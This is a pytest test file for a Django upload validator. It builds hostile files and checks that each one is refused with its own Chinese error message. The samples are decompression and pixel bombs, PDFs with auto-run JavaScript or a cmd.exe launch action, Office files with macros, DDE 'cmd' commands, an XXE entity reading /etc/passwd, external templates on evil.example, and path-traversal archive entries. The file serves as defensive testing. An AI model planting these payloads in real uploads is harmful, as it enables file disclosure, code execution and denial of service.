"""What does harm is refused, each with a sentence of its own, and leaves nothing behind."""

import io
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from PIL import Image as Pillow

from tests.factories.uploads import PDF, archive, office, pdf, picture

MEGABYTE = 1024 * 1024


def png_that_says(width, height):
    """A PNG of a few bytes whose header promises more pixels than a machine has memory for."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    body = zlib.compress(b"\x00" * 10_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def moving(format_name):
    frames = [Pillow.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    target = io.BytesIO()
    frames[0].save(target, format=format_name, save_all=True, append_images=frames[1:], duration=100)
    return target.getvalue()


def encrypted(content):
    """The same archive with the mark of a password on each entry."""
    data = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := data.find(mark, start + 1)) >= 0:
            data[start + place] |= 1
    return bytes(data)


def relation(kind):
    return (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'
    )


def with_chunk(kind, data):
    """A PNG with one chunk more behind its header."""
    content = picture("PNG")
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return content[:33] + chunk + content[33:]


def overlapping():
    """A package of one large part that its directory names two hundred times."""
    content = office("word", **{"word/a.xml": b"<x>" + b"a" * 4_000_000 + b"</x>"})
    end = content.rfind(b"PK\x05\x06")
    size, start = struct.unpack("<II", content[end + 12 : end + 20])
    count = struct.unpack("<H", content[end + 8 : end + 10])[0] * 200
    return (
        content[:start]
        + content[start : start + size] * 200
        + content[end : end + 8]
        + struct.pack("<HHII", count, count, size * 200, start)
        + content[end + 20 :]
    )


RELATION = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)
LINK = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="http://example.org/" TargetMode="External"/></Relationships>'
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
MACRO_TYPES = {
    "[Content_Types].xml": '<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>',
    "xl/a": "x",
}
TEMPLATE = {"word/_rels/settings.xml.rels": RELATION}
WIDE = {"word/styles.xml": ENTITY.encode("utf-16")}
SCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
INFLATED = b"x\x00\x00" + zlib.compress(b"\x00" * 30_000_000, 9)
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
DDE_FIELD = '<w:document xmlns:w="w"><w:instrText> DDEAUTO cmd "/k calc"</w:instrText></w:document>'
RELATIONS_OF = "word/_rels/document.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600

HOSTILE = {
    # Pictures.
    "no bytes": ("a.jpg", b"", "图片文件是空的"),
    "one byte too many": ("a.jpg", picture() + b"\x00" * 15 * MEGABYTE, "不能超过15 MB"),
    "pixel bomb": ("a.png", png_that_says(60_000, 60_000), "超过1亿像素"),
    "many pixels": ("a.png", png_that_says(5_000, 4_001), "2000 万像素"),
    "truncated jpeg": ("a.jpg", picture(size=(400, 400))[:1500], "没有传完整"),
    "truncated webp": ("a.webp", picture("WEBP", size=(400, 400))[:60], "图片"),
    "svg": ("a.svg", SVG, "不能上传这种文件"),
    "svg called png": ("a.png", SVG, "SVG"),
    "page called jpg": ("a.jpg", b"<html><script>alert(1)</script></html>", "不是可用的图片"),
    "program called jpg": ("a.jpg", b"MZ" + b"\x00" * 500, "不是可用的图片"),
    "pdf called jpg": ("a.jpg", PDF, "不是可用的图片"),
    "moving gif": ("a.gif", moving("GIF"), "动图"),
    "moving png": ("a.png", moving("PNG"), "动图"),
    "picture and archive": ("a.png", picture("PNG") + archive(x="y"), "藏着别的文件"),
    "picture and pdf": ("a.jpg", picture(comment=PDF), "藏着别的文件"),
    "profile that unpacks to much": ("a.png", with_chunk(b"iCCP", INFLATED), "不是可用的图片"),
    "text that unpacks to much": ("a.png", with_chunk(b"zTXt", INFLATED), "不是可用的图片"),
    "tiff called jpg": ("a.jpg", picture("TIFF"), "不是可用的图片"),
    "truncated avif": ("a.avif", picture("AVIF", size=(300, 300))[:-50], "没有传完整"),
    "heic that promises more": (
        "a.heic",
        picture("HEIF", size=(300, 300)).replace(
            struct.pack(">II", 300, 300), struct.pack(">II", 60000, 60000)
        ),
        "超过1亿像素",
    ),
    # Documents.
    "empty document": ("a.pdf", b"", "文件是空的"),
    "document one byte too large": ("a.txt", b"x" * (20 * MEGABYTE + 1), "不能超过20 MB"),
    "program": ("a.exe", b"MZ", "不能上传这种文件"),
    "two endings": ("a.pdf.exe", PDF, "不能上传这种文件"),
    "archive": ("a.zip", archive(x="y"), "不能上传压缩包"),
    "macros by name": ("a.docm", office("word"), "“.docm”文件里可以有宏"),
    "right to left": ("a\u202efdp.exe", PDF, "不能上传这种文件"),
    "picture called pdf": ("a.pdf", picture("PNG", size=(90, 90)), "PNG 图片"),
    "page called pdf": ("a.pdf", b"<html><body>1</body></html>", "和扩展名|网页"),
    "pdf called docx": ("a.docx", PDF, "内容却是PDF"),
    "sheet called docx": ("a.docx", office("xl"), "内容却是Excel"),
    "truncated docx": ("a.docx", office("word")[:-30], "可能已损坏"),
    "old word": ("a.doc", OLE, "另存为"),
    "old word called docx": ("a.docx", OLE, "另存为"),
    "truncated pdf": ("a.pdf", PDF[:-40], "没有传完整"),
    "pdf of nothing": ("a.pdf", b"%PDF-1.4\n%%EOF\n", "已损坏"),
    "pdf and archive": ("a.pdf", PDF + archive(x="y"), "同时是两种文件"),
    "pdf with a script": ("a.pdf", pdf(SCRIPT), "自动运行"),
    "pdf with named scripts": ("a.pdf", pdf(b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>"), "自动运行"),
    "pdf that starts a program": ("a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "自动运行"),
    "pdf with a script on a page": ("a.pdf", pdf(b"", b"/AA<</O<</S/JavaScript/JS(1)>>>>"), "自动运行"),
    "pdf with a script behind a link": (
        "a.pdf",
        pdf(b"", b"/Annots[4 0 R]", b"<</Subtype/Link/A<</S/GoTo/Next<</S/JavaScript/JS(1)>>>>>>"),
        "自动运行",
    ),
    "pdf with film": ("a.pdf", pdf(b"", b"/Annots[4 0 R]", b"<</Subtype/RichMedia>>"), "自动运行"),
    "pdf with a form that is a program": ("a.pdf", pdf(b"/AcroForm<</XFA(x)>>"), "自动运行"),
    "macros": ("a.docx", office("word", **{"word/vbaProject.bin": "x"}), "有宏"),
    "macros by type": (
        "a.xlsx",
        archive(**MACRO_TYPES),
        "有宏",
    ),
    "old macros": ("a.xlsx", office("xl", **{"xl/macrosheets/sheet1.xml": "<x/>"}), "有宏"),
    "open macros": (
        "a.odt",
        archive(mimetype="application/vnd.oasis.opendocument.text", **{"Basic/Standard/m.xml": "<x/>"}),
        "有宏",
    ),
    "program inside": ("a.docx", office("word", **{"word/embeddings/run.exe": "MZ"}), "run.exe"),
    "control inside": ("a.docx", office("word", **{"word/activeX/activeX1.bin": "x"}), "控件"),
    "template from elsewhere": (
        "a.docx",
        office("word", **TEMPLATE),
        "外部模板",
    ),
    "entity": ("a.docx", office("word", **{"word/styles.xml": ENTITY}), "外部实体"),
    "entity in wide letters": (
        "a.docx",
        office("word", **WIDE),
        "外部实体",
    ),
    "workbook elsewhere": (
        "a.xlsx",
        office("xl", **{"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath")}),
        "外部模板",
    ),
    "page from elsewhere inside": (
        "a.docx",
        office("word", **{RELATIONS_OF: relation("aFChunk")}),
        "外部对象",
    ),
    "picture that tells who opens it": (
        "a.docx",
        office("word", **{RELATIONS_OF: relation("image")}),
        "链接到别的网站",
    ),
    "program behind a cell": (
        "a.xlsx",
        office("xl", **{"xl/externalLinks/externalLink1.xml": DDE_LINK}),
        "DDE",
    ),
    "program behind a field": ("a.docx", office("word", **{"word/header1.xml": DDE_FIELD}), "DDE"),
    "parts that lie upon each other": ("a.docx", overlapping(), "解开后太大"),
    "pages in a circle": ("a.pdf", PDF.replace(b"Kids[3 0 R]", b"Kids[2 0 R]"), "已损坏"),
    "nothing in a cell": ("a.csv", b"a,b\x00\n", "不符"),
    "way out": ("a.docx", office("word", **{"../../etc/cron.d/x": "x"}), "指向别处"),
    "way out by backslash": ("a.docx", office("word", **{"..\\..\\x": "x"}), "指向别处"),
    "way to the root": ("a.docx", office("word", **{"/etc/passwd": "x"}), "指向别处"),
    "password": ("a.docx", encrypted(office("word")), "密码"),
    "zip bomb": ("a.xlsx", office("xl", **{"xl/sheet.xml": b"0" * 40 * MEGABYTE}), "解开后太大"),
    "many parts": ("a.xlsx", office("xl", **{f"xl/{number}": "" for number in range(10_001)}), "部件太多"),
    "binary text": ("a.txt", b"\x00\x01\x02", "不符"),
    "program called csv": ("a.csv", b"MZ\x90\x00" + b"\x00" * 500, "不符|程序"),
}
HARMLESS = {
    "a table in wide letters": ("a.csv", "姓名,金额\n张三,1\n".encode("utf-16")),
    "a picture with a program behind it, which goes": ("a.jpg", picture() + b"<script>alert(1)</script>"),
    "a link": ("a.docx", office("word", **{"word/_rels/document.xml.rels": LINK})),
    "an invoice with its data": ("a.pdf", pdf(b"/Names<</EmbeddedFiles<</Names[]>>>>")),
    "a pdf that opens at a place": ("a.pdf", pdf(b"/OpenAction[3 0 R/Fit]")),
    "a table that repeats itself": (
        "a.xlsx",
        office("xl", **{"xl/a.xml": b"<s>" + b"<c>0</c>" * 100_000 + b"</s>"}),
    ),
    "a picture with a name of ways": ("../../a.jpg", picture()),
}


def test_each_is_refused_with_its_own_sentence_and_nothing_stays(refuse_each):
    refuse_each(HOSTILE)


def test_what_only_looks_alike_is_taken(gate, subtests):
    for label, (name, content) in HARMLESS.items():
        with subtests.test(label):
            attachment = gate(name, content)
            assert "/" not in attachment.name
            assert default_storage.exists(attachment.file)


def test_archives_are_taken_where_the_setting_says_so_and_are_judged_too(gate, settings):
    settings.DOCUMENTS_MAY_BE_ZIP = True
    assert gate("a.zip", archive(x="y")).content_type == "application/zip"
    with pytest.raises(ValidationError, match="指向别处"):
        gate("a.zip", archive(**{"../x": "y"}))
    with pytest.raises(ValidationError, match="程序"):
        gate("a.zip", archive(**{"setup.exe": "MZ"}))


def test_entries_that_lie_about_their_size_are_no_way_around(gate):
    honest = office("xl", **{"xl/sheet.xml": b"0" * 6 * MEGABYTE})
    with zipfile.ZipFile(io.BytesIO(honest)) as opened:
        size = struct.pack("<I", opened.getinfo("xl/sheet.xml").file_size)
    lying = honest.replace(size, struct.pack("<I", 100))
    with pytest.raises(ValidationError, match="解开后太大"):
        gate("a.xlsx", honest)
    with pytest.raises(ValidationError, match="xlsx"):
        gate("a.xlsx", lying)
